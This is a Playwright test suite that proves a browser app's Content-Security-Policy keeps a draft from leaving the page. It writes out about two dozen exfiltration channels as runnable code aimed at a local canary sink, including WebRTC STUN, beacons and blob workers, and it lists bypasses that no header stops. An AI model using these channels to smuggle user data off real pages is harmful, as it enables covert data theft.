/**
 * The proof that a draft stays in the browser: each way out works where no policy holds (so the test can fail), none works
 * in the page that holds the draft, and every answer of the server carries a policy. What no policy stops is named in
 * `outOfReach`, with its reason, and shown to get out.
 *
 * Not tried, because the sink cannot hear it: `dns-prefetch` and `preconnect`, which tell a host name and no more.
 */
import { expect, test, type Page } from '@playwright/test';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { client, filesUnder, urlPath } from '../../scripts/site.ts';
import { expectNoCanary, heardWith, startSink, type Sink } from './sink.ts';

/** Long enough for a request to this machine; most controls take a tenth of it. */
const settling = 300;

interface Aim {
  /** Address at the sink, with the word in its path. */
  readonly url: string;
  readonly word: string;
  readonly udp: string;
}

interface Way {
  readonly name: string;
  /** Runs in the page. Whether it throws does not matter: the sink decides. */
  readonly attempt: (aim: Aim) => unknown;
  /** Datagrams of WebRTC hold no text of the page's choice, so any counts. */
  readonly by?: 'udp';
}

type Link = readonly [name: string, element: string, attributes: Readonly<Record<string, string>>];

/** Elements that load what an attribute names; `URL` stands for the address. */
const elements: readonly Link[] = [
  ['image', 'img', { src: 'URL' }],
  ['image from a set', 'img', { srcset: 'URL 1x' }],
  ['script', 'script', { src: 'URL' }],
  ['style sheet', 'link', { rel: 'stylesheet', href: 'URL' }],
  ['style attribute', 'p', { style: 'background: url(URL)' }],
  ['frame', 'iframe', { src: 'URL' }],
  ['object', 'object', { data: 'URL', type: 'image/png' }],
  ['embed', 'embed', { src: 'URL', type: 'image/png' }],
  ['video', 'video', { src: 'URL', preload: 'auto' }],
  ['preload', 'link', { rel: 'preload', as: 'image', href: 'URL' }],
  ['module preload', 'link', { rel: 'modulepreload', href: 'URL' }],
  ['prefetch', 'link', { rel: 'prefetch', href: 'URL' }],
];

/** Loaded by a browser with a window, never by one without: the control stays silent, so these prove nothing here. */
const silentWithoutWindow: readonly Link[] = [
  ['icon', 'link', { rel: 'icon', href: 'URL' }],
  ['manifest', 'link', { rel: 'manifest', href: 'URL' }],
];

const calls: readonly Way[] = [
  { name: 'fetch', attempt: ({ url, word }) => fetch(url, { method: 'POST', body: word }) },
  { name: 'fetch without CORS', attempt: ({ url }) => fetch(url, { mode: 'no-cors' }) },
  { name: 'fetch that outlives the page', attempt: ({ url }) => fetch(url, { keepalive: true }) },
  {
    name: 'XMLHttpRequest',
    attempt: ({ url, word }) => {
      const request = new XMLHttpRequest();
      request.open('POST', url);
      request.send(word);
    },
  },
  { name: 'WebSocket', attempt: ({ url }) => new WebSocket(url.replace('http:', 'ws:')) },
  { name: 'EventSource', attempt: ({ url }) => new EventSource(url) },
  { name: 'sendBeacon', attempt: ({ url, word }) => navigator.sendBeacon(url, word) },
  { name: 'module', attempt: ({ url }) => import(url) },
  { name: 'font', attempt: ({ url }) => new FontFace('x', `url(${url})`).load() },
  {
    name: 'form',
    attempt: ({ url }) => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: url });
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'ping of a link',
    attempt: ({ url }) => {
      const link = Object.assign(document.createElement('a'), { href: '#', ping: url });
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'worker of a blob',
    attempt: ({ url }) => {
      const code = `fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`;
      new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    },
  },
  {
    name: 'fetch of a frame without an address',
    attempt: ({ url }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return (frame.contentWindow as unknown as typeof globalThis).fetch(url, { mode: 'no-cors' });
    },
  },
  {
    name: 'WebRTC',
    by: 'udp',
    attempt: async ({ udp }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
];

/** Ways that no header stops, or none that leaves the page working; why, and what holds instead. */
const outOfReach: readonly (Way & { readonly because: string })[] = [
  {
    name: 'leaving the page',
    because:
      'A policy cannot stop a page from going elsewhere. ESLint and the wizard’s test watch the code.',
    attempt: ({ url }) => {
      location.assign(url);
    },
  },
  {
    name: 'a new window',
    because:
      'Only "sandbox" would stop it, and printing and links with it. ESLint bans window.open.',
    attempt: ({ url }) => window.open(url),
  },
  {
    name: 'WebRTC of a frame without an address',
    by: 'udp',
    because:
      'No header stops WebRTC. It is removed from the page, but a new frame has it again: that guards against a slip, not against hostile code.',
    attempt: async ({ udp }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inner = frame.contentWindow as unknown as typeof globalThis;
      const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
];

/** Puts an element with attributes into the page. */
const insert = async (page: Page, [, name, attributes]: Link, url: string): Promise<void> => {
  await page.evaluate(
    ([tag, pairs]) => {
      const element = document.createElement(tag);
      for (const [key, value] of pairs) element.setAttribute(key, value);
      document.body.append(element);
    },
    [
      name,
      Object.entries(attributes).map(([key, value]) => [key, value.replace('URL', url)] as const),
    ] as const,
  );
};

/** Makes a call. It may fail, or take the page away: the sink decides what came of it. */
const call = async (page: Page, { attempt }: Way, aim: Aim): Promise<void> => {
  await page.evaluate(attempt, aim).catch(() => undefined);
};

let sink: Sink;
let lawless: Server;
let lawlessPage: string;
const bareScript = 'onmessage = () => undefined;';

test.beforeAll(async ({ baseURL }) => {
  sink = await startSink(baseURL ?? '');
  lawless = createServer((request, response) => {
    const script = request.url === '/worker.js';
    response.setHeader('Content-Type', script ? 'text/javascript' : 'text/html');
    response.end(script ? bareScript : '<!doctype html><title>Uden regler</title><body></body>');
  }).listen(0, '127.0.0.1');
  await once(lawless, 'listening');
  lawlessPage = `http://127.0.0.1:${String((lawless.address() as AddressInfo).port)}/`;
});

test.afterAll(async () => {
  lawless.close();
  lawless.closeAllConnections();
  await sink.stop();
});

let turn = 0;
/** A new word for each attempt, so that a late request cannot count for another. */
const aimAt = (address: string): Aim => {
  turn += 1;
  const word = `kanariefugl${String(turn).padStart(4, '0')}x`;
  return { url: `${address}/${word}`, word, udp: sink.udp };
};

/** How often the sink was reached with an aim's word, or by datagrams. */
const reached = ({ word }: Aim, by?: 'udp'): number =>
  by === 'udp' ? sink.heard.filter(({ at }) => at === 'udp').length : heardWith(sink, word).length;

const attempts: readonly (Pick<Way, 'name' | 'by'> & {
  readonly make: (page: Page, aim: Aim) => Promise<void>;
})[] = [
  ...elements.map((element) => ({
    name: element[0],
    make: (page: Page, { url }: Aim) => insert(page, element, url),
  })),
  ...calls.map((way) => ({
    ...way,
    make: (page: Page, aim: Aim) => call(page, way, aim),
  })),
];

/** A worker of the page that runs a file (the classifier's, here). */
const workerOf = async (page: Page) => page.workers()[0] ?? (await page.waitForEvent('worker'));

test.describe('without a policy, the sink hears', () => {
  for (const { name, make, by } of attempts)
    test(name, async ({ page }) => {
      await page.goto(lawlessPage);
      const aim = aimAt(sink.stranger);
      const before = reached(aim, by);
      await make(page, aim);
      await expect.poll(() => reached(aim, by)).toBeGreaterThan(before);
    });

  test('a worker of a file', async ({ page }) => {
    await page.goto(lawlessPage);
    const aim = aimAt(sink.stranger);
    await page.evaluate(() => new Worker('/worker.js'));
    const worker = await workerOf(page);
    await worker.evaluate((url) => fetch(url, { mode: 'no-cors' }), aim.url);
    expect(reached(aim)).toBe(1);
  });
});

test.describe('without a policy, the sink still does not hear', () => {
  for (const element of silentWithoutWindow)
    test(element[0], async ({ page }) => {
      await page.goto(lawlessPage);
      const aim = aimAt(sink.stranger);
      await insert(page, element, aim.url);
      await page.waitForTimeout(settling);
      expect(reached(aim)).toBe(0);
    });
});

test.describe('in the page that holds the draft, the sink hears nothing of', () => {
  for (const { name, make, by } of attempts)
    test(name, async ({ page }) => {
      await page.goto('/tjek/');
      const aim = aimAt(sink.stranger);
      const before = reached(aim, by);
      await make(page, aim);
      await page.waitForTimeout(settling);
      expect(reached(aim, by)).toBe(before);
    });

  test('fetch to our own server', async ({ page }) => {
    await page.goto(`${sink.site}/tjek/`);
    const aim = aimAt(sink.site);
    await call(page, { name: '', attempt: ({ url }) => fetch(url) }, aim);
    await page.waitForTimeout(settling);
    expect(reached(aim)).toBe(0);
  });

  test('the worker that reads the draft', async ({ page }) => {
    await page.goto('/tjek/');
    const worker = await workerOf(page);
    const aim = aimAt(sink.stranger);
    await worker.evaluate((url) => fetch(url, { mode: 'no-cors' }), aim.url).catch(() => undefined);
    await page.waitForTimeout(settling);
    expect(reached(aim)).toBe(0);
  });

  test('the broker frame’s own means to ask', async ({ page }) => {
    await page.goto('/tjek/');
    await page.waitForLoadState('networkidle');
    const left = await page.evaluate(() => {
      const frame = document.querySelector<HTMLIFrameElement>('iframe.broker')?.contentWindow;
      const inside = frame as unknown as typeof globalThis;
      return [
        typeof inside.fetch,
        typeof inside.XMLHttpRequest,
        typeof inside.WebSocket,
        typeof inside.EventSource,
        typeof inside.navigator.sendBeacon,
        typeof inside.RTCPeerConnection,
      ];
    });
    expect(new Set(left)).toEqual(new Set(['undefined']));
  });

  test('the broker frame, to another site', async ({ page }) => {
    await page.goto('/tjek/');
    await page.waitForLoadState('networkidle');
    const frame = page.frames().find((each) => each.url().endsWith('/modtager-ramme/'));
    const aim = aimAt(sink.stranger);
    // From a frame within it, which has a fetch again and the broker's policy.
    const attempt = frame?.evaluate((url) => {
      const inner = document.createElement('iframe');
      document.body.append(inner);
      return (inner.contentWindow as unknown as typeof globalThis)
        .fetch(url, { mode: 'no-cors' })
        .then(() => 'sent');
    }, aim.url);
    await expect(attempt ?? Promise.resolve('no frame')).rejects.toThrow('Failed to fetch');
    await page.waitForTimeout(settling);
    expect(reached(aim)).toBe(0);
  });
});

test.describe('no header stops, so something else has to,', () => {
  for (const way of outOfReach)
    test(way.name, async ({ page }) => {
      test.info().annotations.push({ type: 'because', description: way.because });
      await page.goto('/tjek/');
      const aim = aimAt(sink.stranger);
      const before = reached(aim, way.by);
      await call(page, way, aim);
      await expect.poll(() => reached(aim, way.by)).toBeGreaterThan(before);
    });

  test('an image of our own server with the draft in its address', async ({ page }) => {
    await page.goto(`${sink.site}/tjek/`);
    const aim = aimAt(sink.site);
    await insert(page, ['image', 'img', { src: 'URL' }], aim.url);
    await expect.poll(() => reached(aim)).toBe(1);
  });
});

test.describe('every answer carries a policy:', () => {
  const files = filesUnder(client)
    .filter((file) => !/\.(?:br|gz)$/.test(file) && urlPath(file) !== '/_headers')
    .map((file) => urlPath(file));

  test('every file of the site', async ({ request }) => {
    expect(files.length).toBeGreaterThan(10);
    const without: string[] = [];
    for (const path of files) {
      const answer = await request.get(encodeURI(path));
      const policy = answer.headers()['content-security-policy'] ?? '';
      const sound =
        /^default-src 'none';/.test(policy) &&
        !/unsafe-inline|'unsafe-eval'|\*|http|data:/.test(policy);
      if (!sound || answer.status() !== (path === '/404.html' ? 404 : 200)) without.push(path);
    }
    expect(without).toEqual([]);
  });

  const others: [method: string, path: string, status: number][] = [
    ['GET', '/findes-ikke/', 404],
    ['GET', '/tjek', 308],
    ['POST', '/tjek/', 405],
    ['GET', '/%', 400],
    ['POST', '/api/recipients', 308],
  ];
  for (const [method, path, status] of others)
    test(`${method} ${path}`, async ({ request }) => {
      const answer = await request.fetch(path, { method, maxRedirects: 0 });
      expect(answer.status()).toBe(status);
      expect(answer.headers()['content-security-policy']).toMatch(/^default-src 'none';/);
    });

  for (const method of ['GET', 'POST', 'PUT'])
    test(`${method} /api/recipients/`, async ({ request }) => {
      const answer = await request.fetch('/api/recipients/', { method });
      expect(answer.headers()['content-security-policy']).toMatch(/^default-src 'none';/);
      expect(answer.headers()['cache-control']).toContain('no-store');
    });

  for (const path of files.filter((each) => each.endsWith('/')))
    test(`${path} breaks none of it`, async ({ page }) => {
      const complaints: string[] = [];
      page.on('console', (message) => {
        // Which features a browser knows depends on its version.
        if (message.text().includes('Unrecognized feature')) return;
        if (message.type() === 'error' || /Content.Security.Policy/i.test(message.text()))
          complaints.push(message.text());
      });
      page.on('pageerror', (error) => complaints.push(error.message));
      await page.goto(path);
      await page.waitForLoadState('networkidle');
      expect(complaints).toEqual([]);
    });
});

test.describe('expectNoCanary', () => {
  const canary = 'kanariefugl9999y';
  const plants: [name: string, plant: (words: { canary: string; url: string }) => unknown][] = [
    [
      'an address',
      ({ canary: word }) => {
        history.pushState(null, '', `#${word}`);
      },
    ],
    [
      'the history',
      ({ canary: word }) => {
        history.replaceState({ draft: word }, '');
      },
    ],
    ['the title', ({ canary: word }) => (document.title = word)],
    ['the name of the window', ({ canary: word }) => (window.name = word)],
    ['a cookie', ({ canary: word }) => (document.cookie = `a=${word}`)],
    [
      'localStorage',
      ({ canary: word }) => {
        localStorage.setItem('a', `x${word}x`);
      },
    ],
    [
      'sessionStorage',
      ({ canary: word }) => {
        sessionStorage.setItem(word, '');
      },
    ],
    ['a cache', () => caches.open('x')],
    [
      'a database',
      () =>
        new Promise((done) => {
          indexedDB.open('x').onsuccess = () => {
            done(null);
          };
        }),
    ],
    [
      'a file',
      async () => {
        await (await navigator.storage.getDirectory()).getFileHandle('x', { create: true });
      },
    ],
    ['a request', ({ canary: word, url }) => fetch(`${url}/${word}`, { mode: 'no-cors' })],
    [
      'a body',
      ({ canary: word, url }) => fetch(url, { mode: 'no-cors', method: 'POST', body: `x${word}` }),
    ],
    [
      'base64',
      ({ canary: word, url }) => fetch(`${url}/?${btoa(`xy${word}z`)}`, { mode: 'no-cors' }),
    ],
  ];

  for (const [name, plant] of plants)
    test(`finds it in ${name}`, async ({ page, baseURL }) => {
      const own = await startSink(baseURL ?? '');
      await page.goto(lawlessPage);
      await expectNoCanary(own, page, canary);
      await page.evaluate(plant, { canary, url: own.stranger });
      await expect(expectNoCanary(own, page, canary)).rejects.toThrow(/canary/);
      await own.stop();
    });

  test('finds it in what our own server is told', async ({ page }) => {
    await page.goto(`${sink.site}/?${canary}`);
    await page.goto(lawlessPage);
    await expect(expectNoCanary(sink, page, canary)).rejects.toThrow(/heard/);
  });
});
